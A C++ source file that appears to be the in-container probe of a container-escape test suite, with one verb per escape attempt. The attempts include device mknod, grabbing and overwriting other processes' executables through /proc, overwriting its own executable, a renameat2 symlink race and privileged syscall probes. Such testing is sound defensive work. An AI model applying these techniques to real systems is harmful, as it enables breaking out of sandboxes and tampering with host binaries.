// The attacker inside the container. Each verb tries one way out and prints what it found; the driver judges.
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

namespace {

std::string link_of(std::string const& path)
{
    char text[4096];
    auto length = ::readlink(path.c_str(), text, sizeof text - 1);
    return length < 0 ? std::string("!") + strerrorname_np(errno) : std::string(text, static_cast<std::size_t>(length));
}

std::string read_text(std::string const& path)
{
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return std::string("!") + strerrorname_np(errno);
    char text[65536];
    auto length = ::read(fd, text, sizeof text);
    ::close(fd);
    return length < 0 ? std::string("!") + strerrorname_np(errno) : std::string(text, static_cast<std::size_t>(length));
}

std::string try_write(std::string const& path, std::string const& text)
{
    int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return strerrorname_np(errno);
    auto written = ::write(fd, text.data(), text.size());
    std::string result = written < 0 ? strerrorname_np(errno) : "written";
    ::close(fd);
    return result;
}

std::vector<std::string> names_in(std::string const& folder)
{
    std::vector<std::string> names;
    if (auto* directory = ::opendir(folder.c_str())) {
        while (auto* entry = ::readdir(directory))
            names.emplace_back(entry->d_name);
        ::closedir(directory);
    }
    return names;
}

double now()
{
    timespec time {};
    ::clock_gettime(CLOCK_MONOTONIC, &time);
    return static_cast<double>(time.tv_sec) + static_cast<double>(time.tv_nsec) / 1e9;
}

// Every open descriptor and what it is.
int list_descriptors()
{
    for (int fd = 0; fd < 1024; ++fd) {
        if (::fcntl(fd, F_GETFD) >= 0)
            std::printf("fd %d %s\n", fd, link_of("/proc/self/fd/" + std::to_string(fd)).c_str());
    }
    char where[4096];
    std::printf("cwd %s\n", ::syscall(SYS_getcwd, where, sizeof where) > 0 ? where : strerrorname_np(errno));
    return 0;
}

int print_status()
{
    std::fputs(read_text("/proc/self/status").c_str(), stdout);
    return 0;
}

int write_files(int count, char** pairs)
{
    for (int index = 0; index < count; ++index)
        std::printf("%s %s\n", pairs[index], try_write(pairs[index], "0").c_str());
    return 0;
}

int read_files(int count, char** paths)
{
    for (int index = 0; index < count; ++index) {
        auto text = read_text(paths[index]);
        std::printf("%s %s\n", paths[index], text.empty() ? "empty" : text[0] == '!' ? text.c_str() + 1 : "readable");
    }
    return 0;
}

// mknod of a disk, then opening it.
int open_devices()
{
    struct {
        char const* name;
        mode_t mode;
        dev_t device;
    } const devices[] = {
        { "/disk", S_IFBLK | 0600, makedev(254, 0) },
        { "/kmem", S_IFCHR | 0600, makedev(1, 1) },
        { "/loop", S_IFBLK | 0600, makedev(7, 0) },
        { "/fuse", S_IFCHR | 0600, makedev(10, 229) },
        { "/kvm", S_IFCHR | 0600, makedev(10, 232) },
    };
    for (auto const& device : devices) {
        bool is_made = ::mknod(device.name, device.mode, device.device) == 0;
        std::string made = is_made ? "made" : strerrorname_np(errno);
        int fd = is_made ? ::open(device.name, O_RDWR | O_NONBLOCK) : -1;
        std::printf("%s %s %s\n", device.name, made.c_str(), fd >= 0 ? "opened" : is_made ? strerrorname_np(errno) : "none");
        if (fd >= 0)
            ::close(fd);
    }
    return 0;
}

// Watches for processes that appear and grabs at whatever of them leads to the host: executable, descriptors, memory, root.
int stalk(double seconds)
{
    auto own = ::getpid();
    std::vector<int> held;
    long looked = 0;
    long grabbed = 0;
    double end = now() + seconds;
    ::printf("stalking\n");
    ::fflush(stdout);
    while (now() < end) {
        for (auto const& name : names_in("/proc")) {
            auto pid = std::atoi(name.c_str());
            if (pid <= 1 || pid == own)
                continue;
            auto exe = link_of("/proc/" + name + "/exe");
            if (exe[0] == '!' || exe == link_of("/proc/self/exe") || exe.starts_with("/bin/") || exe.starts_with("/guest"))
                continue;
            ++looked;
            int fd = ::open(("/proc/" + name + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
            if (fd >= 0) {
                std::printf("exe %s\n", exe.c_str());
                ++grabbed;
                held.push_back(fd);
            }
            for (auto const& number : names_in("/proc/" + name + "/fd")) {
                auto target = link_of("/proc/" + name + "/fd/" + number);
                if (target.starts_with("/") && !target.starts_with("/dev/") && !target.starts_with("/memfd:"))
                    std::printf("descriptor %s\n", target.c_str());
            }
            int memory = ::open(("/proc/" + name + "/mem").c_str(), O_RDWR | O_CLOEXEC);
            if (memory >= 0) {
                std::printf("memory of %s\n", exe.c_str());
                ::close(memory);
            }
        }
    }
    double patience = now() + 5; // for all of them: a program that still runs is busy (ETXTBSY) until it ends
    for (int fd : held) {
        for (int round = 0; round < 2000 && now() < patience; ++round) {
            int again = ::open(("/proc/self/fd/" + std::to_string(fd)).c_str(), O_WRONLY | O_CLOEXEC);
            if (again >= 0) {
                std::printf("writable executable %s\n", link_of("/proc/self/fd/" + std::to_string(again)).c_str());
                if (::write(again, "#!/bin/false\n", 13) == 13)
                    std::printf("overwrote\n");
                ::close(again);
                break;
            }
            if (errno != ETXTBSY)
                break;
            ::usleep(1000);
        }
    }
    std::printf("done looked %ld grabbed %ld\n", looked, grabbed);
    return 0;
}

// What a program started as "#!/proc/self/exe" becomes is decided by the kernel; this writes to whatever it was.
int overwrite_own_executable()
{
    std::printf("exe %s\n", link_of("/proc/self/exe").c_str());
    int fd = ::open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    std::printf("write %s\n", try_write("/proc/self/fd/" + std::to_string(fd), "x").c_str());
    return 0;
}

int mount_and_tell()
{
    ::mkdir("/mnt", 0755);
    std::printf("mount %s\n", ::mount("escape", "/mnt", "tmpfs", 0, nullptr) == 0 ? "made" : strerrorname_np(errno));
    std::fflush(stdout);
    ::sleep(2);
    return 0;
}

int try_calls()
{
    auto tell = [](char const* what, long result) { std::printf("%s %s\n", what, result >= 0 ? "allowed" : strerrorname_np(errno)); };
    tell("mount", ::mount("x", "/tmp", "tmpfs", 0, nullptr));
    tell("remount", ::mount(nullptr, "/proc/sys", nullptr, MS_REMOUNT | MS_BIND, nullptr));
    tell("umount", ::umount2("/proc/sys", MNT_DETACH));
    tell("unshare-user", ::unshare(CLONE_NEWUSER));
    tell("chroot-setns", ::syscall(SYS_setns, 0, 0));
    tell("bpf", ::syscall(SYS_bpf, 0, nullptr, 0));
    tell("keyctl", ::syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
    tell("open_by_handle_at", ::syscall(SYS_open_by_handle_at, -1, nullptr, 0));
    tell("reboot", ::syscall(SYS_reboot, 0, 0, 0, nullptr));
    tell("swapon", ::syscall(SYS_swapon, "/none", 0));
    tell("init_module", ::syscall(SYS_init_module, nullptr, 0, ""));
    return 0;
}

// Exchanges two names until killed: one a directory, one a symbolic link out of the root.
int exchange(char const* one, char const* other)
{
    for (;;)
        ::syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

} // namespace

int main(int argc, char** argv)
{
    std::string verb = argc > 1 ? argv[1] : "";
    if (verb == "true")
        return 0;
    if (verb == "sleep")
        return ::sleep(static_cast<unsigned>(std::atoi(argv[2]))) == 0 ? 0 : 1;
    if (verb == "descriptors")
        return list_descriptors();
    if (verb == "status")
        return print_status();
    if (verb == "write")
        return write_files(argc - 2, argv + 2);
    if (verb == "read")
        return read_files(argc - 2, argv + 2);
    if (verb == "cat") {
        std::fputs(read_text(argv[2]).c_str(), stdout);
        return 0;
    }
    if (verb == "devices")
        return open_devices();
    if (verb == "stalk")
        return stalk(std::atof(argv[2]));
    if (verb == "own-exe")
        return overwrite_own_executable();
    if (verb == "mount")
        return mount_and_tell();
    if (verb == "calls")
        return try_calls();
    if (verb == "exchange")
        return exchange(argv[2], argv[3]);
    std::fprintf(stderr, "escape-guest: no such verb: %s\n", verb.c_str());
    return 2;
}
